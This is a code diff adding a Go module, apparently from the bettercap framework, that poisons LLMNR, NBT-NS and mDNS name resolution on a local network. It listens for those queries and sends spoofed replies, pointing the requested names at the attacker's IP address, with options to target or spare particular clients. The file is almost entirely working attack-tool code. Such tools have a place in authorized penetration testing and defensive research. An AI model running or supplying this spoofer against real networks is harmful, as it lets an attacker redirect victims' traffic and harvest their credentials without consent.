@@ -0,0 +1,257 @@
+package name_spoof
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"sync"
+
+	"github.com/bettercap/bettercap/v2/modules/dns_spoof"
+	"github.com/bettercap/bettercap/v2/network"
+	"github.com/bettercap/bettercap/v2/packets"
+	"github.com/bettercap/bettercap/v2/session"
+
+	"github.com/gopacket/gopacket"
+	"github.com/gopacket/gopacket/layers"
+	"github.com/gopacket/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+type NameSpoofer struct {
+	session.SessionModule
+	Handle        *pcap.Handle
+	Names         dns_spoof.Hosts
+	Address       net.IP
+	Address6      net.IP
+	TTL           uint32
+	LLMNR         bool
+	NBNS          bool
+	MDNS          bool
+	wAddresses    []net.IP
+	wMacs         []net.HardwareAddr
+	bAddresses    []net.IP
+	bMacs         []net.HardwareAddr
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewNameSpoofer(s *session.Session) *NameSpoofer {
+	mod := &NameSpoofer{
+		SessionModule: session.NewSessionModule("name.spoof", s),
+		Handle:        nil,
+		TTL:           30,
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.AddParam(session.NewStringParameter("name.spoof.names",
+		"*",
+		"",
+		"Comma separated list of host names or glob expressions to spoof."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"IPv4 address to resolve the names to."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.address6",
+		session.ParamIfaceAddress6,
+		"",
+		"IPv6 address to resolve the names to for AAAA queries, if empty they will not be answered."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.whitelist",
+		"",
+		"",
+		"If not empty, only the clients in this comma separated list of MAC addresses, IP addresses or aliases will be answered."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.blacklist",
+		"",
+		"",
+		"Comma separated list of MAC addresses, IP addresses or aliases of clients that will never be answered."))
+
+	mod.AddParam(session.NewBoolParameter("name.spoof.llmnr",
+		"true",
+		"If true, LLMNR queries will be answered."))
+
+	mod.AddParam(session.NewBoolParameter("name.spoof.nbns",
+		"true",
+		"If true, NetBIOS name service queries will be answered."))
+
+	mod.AddParam(session.NewBoolParameter("name.spoof.mdns",
+		"true",
+		"If true, mDNS queries will be answered."))
+
+	mod.AddParam(session.NewIntParameter("name.spoof.ttl",
+		"30",
+		"TTL of spoofed replies."))
+
+	mod.AddHandler(session.NewModuleHandler("name.spoof on", "",
+		"Start the LLMNR, NBT-NS and mDNS spoofer in the background.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("name.spoof off", "",
+		"Stop the LLMNR, NBT-NS and mDNS spoofer in the background.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	return mod
+}
+
+func (mod NameSpoofer) Name() string {
+	return "name.spoof"
+}
+
+func (mod NameSpoofer) Description() string {
+	return "Replies to LLMNR, NBT-NS and mDNS queries with spoofed responses, resolving the names to the attackers host."
+}
+
+func (mod NameSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *NameSpoofer) Configure() error {
+	var err error
+	var names []string
+	var whitelist, blacklist string
+	var ttl int
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, names = mod.ListParam("name.spoof.names"); err != nil {
+		return err
+	} else if err, mod.Address = mod.IPParam("name.spoof.address"); err != nil {
+		return err
+	} else if err, mod.Address6 = mod.IPParam("name.spoof.address6"); err != nil {
+		return err
+	} else if err, whitelist = mod.StringParam("name.spoof.whitelist"); err != nil {
+		return err
+	} else if mod.wAddresses, mod.wMacs, err = network.ParseTargets(whitelist, mod.Session.Lan.Aliases()); err != nil {
+		return err
+	} else if err, blacklist = mod.StringParam("name.spoof.blacklist"); err != nil {
+		return err
+	} else if mod.bAddresses, mod.bMacs, err = network.ParseTargets(blacklist, mod.Session.Lan.Aliases()); err != nil {
+		return err
+	} else if err, mod.LLMNR = mod.BoolParam("name.spoof.llmnr"); err != nil {
+		return err
+	} else if err, mod.NBNS = mod.BoolParam("name.spoof.nbns"); err != nil {
+		return err
+	} else if err, mod.MDNS = mod.BoolParam("name.spoof.mdns"); err != nil {
+		return err
+	} else if err, ttl = mod.IntParam("name.spoof.ttl"); err != nil {
+		return err
+	} else if len(names) == 0 {
+		return fmt.Errorf("name.spoof.names can't be empty")
+	} else if !mod.LLMNR && !mod.NBNS && !mod.MDNS {
+		return fmt.Errorf("at least one of name.spoof.llmnr, name.spoof.nbns or name.spoof.mdns must be enabled")
+	}
+
+	mod.TTL = uint32(ttl)
+	if mod.Address6 != nil && mod.Address6.To4() != nil {
+		mod.Address6 = nil
+	}
+
+	mod.Names = dns_spoof.Hosts{}
+	for _, name := range names {
+		mod.Names = append(mod.Names, dns_spoof.NewHostEntry(name, mod.Address))
+	}
+
+	if mod.Handle, err = network.Capture(mod.Session.Interface.Name()); err != nil {
+		return err
+	} else if err = mod.Handle.SetBPFFilter(fmt.Sprintf("udp and (dst port %d or dst port %d or dst port %d)",
+		packets.NBNSPort, packets.LLMNRPort, packets.MDNSPort)); err != nil {
+		return err
+	}
+
+	return nil
+}
+
+func matchesClient(ip net.IP, mac net.HardwareAddr, addresses []net.IP, macs []net.HardwareAddr) bool {
+	for _, addr := range addresses {
+		if addr.Equal(ip) {
+			return true
+		}
+	}
+	for _, hw := range macs {
+		if bytes.Equal(hw, mac) {
+			return true
+		}
+	}
+	return false
+}
+
+func (mod *NameSpoofer) shouldReply(ip net.IP, mac net.HardwareAddr) bool {
+	if bytes.Equal(mac, mod.Session.Interface.HW) {
+		return false
+	} else if matchesClient(ip, mac, mod.bAddresses, mod.bMacs) {
+		return false
+	} else if len(mod.wAddresses) > 0 || len(mod.wMacs) > 0 {
+		return matchesClient(ip, mac, mod.wAddresses, mod.wMacs)
+	}
+	return true
+}
+
+func (mod *NameSpoofer) onPacket(pkt gopacket.Packet) {
+	reply := mod.replyFor(pkt)
+	if reply == nil {
+		return
+	}
+
+	who := reply.dstMAC.String()
+	if t, found := mod.Session.Lan.Get(who); found {
+		who = t.String()
+	}
+
+	err, raw := reply.serialize(mod.Session.Interface)
+	if err != nil {
+		mod.Error("error serializing %s packet: %s.", reply.proto, err)
+		return
+	}
+
+	mod.Debug("sending %d bytes of packet ...", len(raw))
+	if err := mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("error sending packet: %s", err)
+		return
+	}
+
+	mod.Info("sending spoofed %s reply for %s to %s.", reply.proto, tui.Red(reply.name), tui.Bold(who))
+}
+
+func (mod *NameSpoofer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
+		mod.pktSourceChan = src.Packets()
+		for packet := range mod.pktSourceChan {
+			if !mod.Running() {
+				break
+			}
+
+			mod.onPacket(packet)
+		}
+	})
+}
+
+func (mod *NameSpoofer) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.pktSourceChan <- nil
+		mod.Handle.Close()
+		mod.waitGroup.Wait()
+	})
+}
+
+// the UDP layer of a packet, nil for non UDP packets
+func udpOf(pkt gopacket.Packet) *layers.UDP {
+	if layer := pkt.Layer(layers.LayerTypeUDP); layer != nil {
+		return layer.(*layers.UDP)
+	}
+	return nil
+}